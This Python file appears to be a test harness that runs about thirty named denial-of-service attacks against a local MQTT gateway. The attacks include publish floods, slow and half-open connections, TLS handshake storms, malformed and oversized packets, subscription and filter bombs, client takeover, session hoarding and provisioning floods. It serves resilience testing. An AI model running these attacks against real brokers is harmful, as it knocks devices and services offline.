"""Attacks on the device gateway, each until its input ends: ``attacker.py NAME '{"plain": port, …}'``.

A process of its own, with little claim to the processor, so that what others feel is the server's doing. It says ``on`` when
the attack has begun, and ``done`` with what it counted when it ends.
"""

import contextlib
import itertools
import json
import os
import selectors
import socket
import ssl
import struct
import sys
from collections.abc import Callable
from typing import Any

CHUNK = 64 * 1024
counts: dict[str, int] = {}
given: dict[str, Any] = {}


def framed(head: int, body: bytes) -> bytes:
    length, digits = len(body), bytearray()
    while True:
        length, digit = length >> 7, length & 0x7F
        digits.append(digit | 0x80 if length else digit)
        if not length:
            return bytes([head]) + bytes(digits) + body


def text(words: str | bytes) -> bytes:
    raw = words.encode() if isinstance(words, str) else words
    return struct.pack(">H", len(raw)) + raw


def varint(number: int) -> bytes:
    return framed(0, b"\0" * number)[1 : -number or None]


def connect_packet(name: str, version: int = 4, *, clean: bool = True, will: bytes | None = None) -> bytes:
    flags = 2 * clean | (4 if will is not None else 0)
    properties = b"" if version == 4 else (b"\0" if clean else b"\x05\x11\0\0\x0e\x10")
    last = b"" if will is None else (b"\0" * (version == 5)) + text(f"free/wills/{name}") + text(will)
    return framed(0x10, text("MQTT") + bytes([version, flags, 0, 60]) + properties + text(name) + last)


def publish(topic: str | bytes, payload: bytes = b"", packet_id: int = 0, block: bytes = b"") -> bytes:
    middle = struct.pack(">H", packet_id) if packet_id else b""
    return framed(0x32 if packet_id else 0x30, text(topic) + middle + block + payload)


def subscribe(*filters: str, qos: int = 1, version: int = 4) -> bytes:
    block = b"\0" if version == 5 else b""
    return framed(0x82, b"\0\1" + block + b"".join(text(each) + bytes([qos]) for each in filters))


def unsubscribe(*filters: str) -> bytes:
    return framed(0xA2, b"\0\2" + b"".join(text(each) for each in filters))


def tcp(port: int, receive_bytes: int | None = None) -> socket.socket:
    made = socket.socket()
    if receive_bytes is not None:
        made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
    made.connect(("127.0.0.1", port))
    return made


def client(name: str, version: int = 4, receive_bytes: int | None = None, **options: Any) -> socket.socket:
    """A connection that was let in."""
    made = tcp(given["plain"], receive_bytes)
    made.sendall(connect_packet(name, version, **options))
    assert made.recv(4)[:1] == b"\x20", "no CONNACK"
    return made


def masked(head: int, body: bytes) -> bytes:
    """A frame of a WebSocket; a mask of zeros is one, too."""
    assert len(body) < 126
    return bytes([head, 0x80 | len(body), 0, 0, 0, 0]) + body


def websocket(name: str) -> socket.socket:
    """A client over WebSocket that was let in."""
    made = tcp(given["http"])
    fields = {
        "Host": f"127.0.0.1:{given['http']}",
        "Upgrade": "websocket",
        "Connection": "Upgrade",
        "Sec-WebSocket-Key": "x3JJHMbDL1EzLkh9GBhXDw==",
        "Sec-WebSocket-Version": "13",
        "Sec-WebSocket-Protocol": "mqtt",
    }
    lines = [
        f"GET {given['target']} HTTP/1.1",
        *(f"{each}: {value}" for each, value in fields.items()),
        "",
        "",
    ]
    made.sendall("\r\n".join(lines).encode())
    assert b" 101 " in made.recv(CHUNK), "no upgrade"
    made.sendall(masked(0x82, connect_packet(name)))
    assert made.recv(6)[2:3] == b"\x20", "no CONNACK"
    return made


def ended(seconds: float = 0) -> bool:
    """Whether the test has seen enough, within some time."""
    with selectors.DefaultSelector() as waiting:
        waiting.register(sys.stdin, selectors.EVENT_READ)
        return bool(waiting.select(seconds))


def on() -> None:
    sys.stdout.write("on\n")
    sys.stdout.flush()


def count(what: str, more: int = 1) -> None:
    counts[what] = counts.get(what, 0) + more


def pump(sockets: dict[socket.socket, bytes], again: Callable[[], None] = lambda: None) -> None:
    """Send each socket's bytes again and again, and read what comes, until the end."""
    waiting, positions = selectors.DefaultSelector(), dict.fromkeys(sockets, 0)
    for each in sockets:
        each.setblocking(False)
        waiting.register(each, selectors.EVENT_READ | selectors.EVENT_WRITE)
    waiting.register(sys.stdin, selectors.EVENT_READ)
    on()
    while True:
        for key, events in waiting.select(0.05):
            each: Any = key.fileobj
            if each is sys.stdin:
                return
            try:
                if events & selectors.EVENT_READ and not each.recv(CHUNK):
                    raise ConnectionResetError
                if events & selectors.EVENT_WRITE:
                    data, at = sockets[each], positions[each]
                    sent = each.send(memoryview(data)[at : at + CHUNK])
                    positions[each] = (at + sent) % len(data)
                    count("bytes", sent)
            except BlockingIOError:
                continue
            except OSError:
                waiting.unregister(each)
                count("closed")
        again()


def whole(data: bytes) -> bytes:
    """Packets again and again, so that a write is worth its while."""
    return data * max(1, CHUNK // len(data))


def numbered(packet: Callable[[int], bytes]) -> bytes:
    return b"".join(packet(number) for number in range(1, 2001))


def flood(clients: int, data: bytes, version: int = 4) -> None:
    pump({client(f"{given['name']}-{number}", version): data for number in range(clients)})


def flood_qos0(clients: int = 1) -> None:
    flood(clients, whole(publish("free/flood", b"x" * 16)))


def flood_qos1(clients: int = 1) -> None:
    flood(clients, numbered(lambda number: publish("free/flood", b"x" * 16, number)))


def flood_jobs(clients: int = 1) -> None:
    topic = "$aws/things/{}/jobs/get"
    pump(
        {
            client(name): numbered(lambda number, name=name: publish(topic.format(name), b"{}", number))
            for name in (f"{given['name']}-{number}" for number in range(clients))
        }
    )


def flood_pings() -> None:
    flood(1, whole(b"\xc0\0"))


def frames(first: bytes, again: bytes) -> None:
    made = websocket(f"{given['name']}-0")
    made.sendall(first)
    pump({made: whole(again)})


def slow_readers() -> None:
    readers = []
    for number in range(20):
        reader = client(f"{given['name']}-{number}", receive_bytes=4096)
        reader.sendall(subscribe("free/slow/#"))
        reader.recv(5)
        readers.append(reader)
    loud = client(f"{given['name']}-loud")
    pump({loud: numbered(lambda number: publish("free/slow/x", b"x" * 30_000, number))[: 200 * 30_020]})


def never_acknowledges() -> None:
    mute = []
    for number in range(20):
        mute.append(client(f"{given['name']}-{number}"))
        mute[-1].sendall(subscribe("free/mute/#"))
        mute[-1].recv(5)
    loud = client(f"{given['name']}-loud")
    pump(
        {
            **dict.fromkeys(mute, b"\xc0\0"),
            loud: numbered(lambda number: publish("free/mute/x", b"x" * 100, number)),
        }
    )


def half_open(kind: str = "tls", first: bytes = b"") -> None:
    """Connections that say nothing, or begin and say no more."""
    held: list[socket.socket] = []
    on()
    while not ended(0.01):
        if len(held) < 3000:
            for _ in range(50):
                with contextlib.suppress(OSError):
                    held.append(tcp(given[kind]))
                    held[-1].sendall(first)
                    count("connections")
        else:
            held.pop(0).close()


def slow_handshakes() -> None:
    half_open("tls", b"\x16\x03\x01\x02\x00\x01")


def slow_connects() -> None:
    """CONNECT, a byte at a time: a long one, of which the end never comes."""
    packet = connect_packet("x" * 100, will=b"w" * 60_000)
    held: dict[socket.socket, int] = {}
    on()
    while not ended(0.05):
        if len(held) < 500:
            held |= {tcp(given["plain"]): 0 for _ in range(50)}
        for each, at in held.items():
            with contextlib.suppress(OSError):
                each.sendall(packet[at : at + 1])
            held[each] = at + 1
            count("bytes")


def churn(begin: Callable[[int], list[socket.socket]]) -> None:
    """Connections that come and go, many at once."""
    on()
    for number in itertools.count():
        if ended():
            return
        for each in begin(number):
            with contextlib.suppress(OSError):
                each.recv(CHUNK)
            each.close()
            count("connections")


def many(number: int, size: int, data: Callable[[str], bytes]) -> list[socket.socket]:
    made = []
    for each in range(size):
        with contextlib.suppress(OSError):
            made.append(tcp(given["plain"]))
            made[-1].sendall(data(f"{given['name']}-{number}-{each}"))
    return made


def storm() -> None:
    churn(lambda number: many(number, 300, lambda name: connect_packet(name) + subscribe("free/storm")))


def storm_tls() -> None:
    context = ssl.create_default_context(cafile=given["ca"])
    context.load_cert_chain(given["certificate"], given["key"])
    context.check_hostname = False

    def begin(_number: int) -> list[socket.socket]:
        raw = [tcp(given["tls"]) for _ in range(30)]
        made = []
        for each in raw:
            each.setblocking(False)
            made.append(context.wrap_socket(each, do_handshake_on_connect=False))
        left = set(made)
        while left:
            for each in list(left):
                try:
                    each.do_handshake()
                    left.discard(each)
                except ssl.SSLWantReadError:
                    continue
                except OSError:
                    left.discard(each)
        for each in made:
            each.settimeout(5)
            with contextlib.suppress(OSError):
                each.sendall(connect_packet(given["thing"]))
        return made

    churn(begin)


def malformed() -> None:
    bad = [b"\x10\xff\xff\xff\x7f", os.urandom(200), b"\x30\xff\xff\xff\xff\xff", b"\xf0\0", b"\x62\x01\0"]

    def data(name: str) -> bytes:
        return connect_packet(name) * (len(name) % 2) + bad[hash(name) % len(bad)]

    churn(lambda number: many(number, 50, data))


def oversized() -> None:
    """Packets that are announced larger than may be, and payloads that are."""
    too_large = publish("free/large", b"x" * 140_000)
    churn(lambda number: many(number, 10, lambda name: connect_packet(name) + too_large))


def deep_topics() -> None:
    names = [b"/".join([b"%d" % number, *[b"d"] * 5000]) for number in range(100)]
    flood(1, b"".join(publish(name, b"", number + 1, b"\0") for number, name in enumerate(names)), 5)


def subscription_bomb() -> None:
    """Thousands of retained messages, and filters that match all of them, again and again."""
    keeper = client(f"{given['name']}-keeper")
    for number in range(5000):
        keeper.sendall(framed(0x31, text(f"free/kept/{number // 100}/{number % 100}") + b"x" * 100))
    keeper.sendall(b"\xc0\0")
    keeper.recv(2)
    wide = ["free/kept/#", "free/+/+/+", "+/+/+/none", "free/+/+/#", "+/kept/#", "free/#", "#", "+/+/#"]
    flood(5, whole(subscribe(*wide, qos=0)))


def wide_filters() -> None:
    flood(5, whole(subscribe(*["+/" * 7 + "+"] * 8) + subscribe(*[f"a/+/{n}/#" for n in range(8)])))


def filter_bomb() -> None:
    flood(1, unsubscribe(*(f"a{number}" for number in range(20_000))))


def subscribe_churn() -> None:
    names = [f"free/churn/{number}" for number in range(8)]
    flood(5, whole(subscribe(*names) + unsubscribe(*names)))


def takeover() -> None:
    churn(lambda _number: many(0, 20, lambda _name: connect_packet(given["name"])))


def hoard() -> None:
    churn(lambda number: many(number, 50, lambda name: connect_packet(name, clean=False)))


def wills() -> None:
    churn(lambda number: many(number, 20, lambda name: connect_packet(name, will=b"w" * 60_000)))


def user_properties() -> None:
    pairs = b"\x26\0\1a\0\1b" * 18_000
    flood(1, publish("free/properties", b"", 0, varint(len(pairs)) + pairs), 5)


def aliases() -> None:
    block = [b"\x03\x23" + struct.pack(">H", number + 1) for number in range(8)]
    named = b"".join(publish(f"free/alias/{n}", b"", 0, block[n % 8]) for n in range(64))
    flood(1, whole(named + b"".join(publish("", b"", 0, each) for each in block)), 5)


def provisioning() -> None:
    context = ssl.create_default_context(cafile=given["ca"])
    context.load_cert_chain(given["certificate"], given["key"])
    context.check_hostname = False
    made = context.wrap_socket(tcp(given["tls"]))
    made.sendall(connect_packet(given["thing"]))
    made.recv(4)
    made.settimeout(0.02)
    request = b"".join(publish("$aws/certificates/create/json", b"{}", n) for n in range(1, 90))
    on()
    while not ended():
        with contextlib.suppress(TimeoutError, ssl.SSLWantWriteError):
            made.sendall(request)
            count("requests", 89)
        with contextlib.suppress(TimeoutError):
            while made.recv(CHUNK):
                pass


ATTACKS: dict[str, Callable[[], None]] = {
    "slow-readers": slow_readers,
    "flood-qos0": flood_qos0,
    "flood-qos0-fifty": lambda: flood_qos0(50),
    "flood-qos1": flood_qos1,
    "flood-qos1-fifty": lambda: flood_qos1(50),
    "flood-jobs": flood_jobs,
    "flood-jobs-fifty": lambda: flood_jobs(50),
    "half-open": lambda: half_open("plain"),
    "half-open-tls": half_open,
    "slow-handshakes": slow_handshakes,
    "slow-connects": slow_connects,
    "storm": storm,
    "storm-tls": storm_tls,
    "oversized": oversized,
    "malformed": malformed,
    "deep-topics": deep_topics,
    "subscription-bomb": subscription_bomb,
    "wide-filters": wide_filters,
    "filter-bomb": filter_bomb,
    "subscribe-churn": subscribe_churn,
    "pings": flood_pings,
    "websocket-empty": lambda: frames(b"", masked(0x82, b"")),
    "websocket-pings": lambda: frames(b"", masked(0x89, b"?")),
    "websocket-bytes": lambda: frames(masked(0x02, b"\xc0"), masked(0, b"\0") + masked(0, b"\xc0")),
    "takeover": takeover,
    "hoard": hoard,
    "wills": wills,
    "user-properties": user_properties,
    "aliases": aliases,
    "provisioning": provisioning,
    "never-acknowledges": never_acknowledges,
}


def main() -> None:
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    given.update(json.loads(sys.argv[2]))
    with contextlib.suppress(BrokenPipeError, ConnectionResetError):
        ATTACKS[sys.argv[1]]()
    sys.stdout.write(f"done {json.dumps(counts)}\n")


if __name__ == "__main__":
    main()
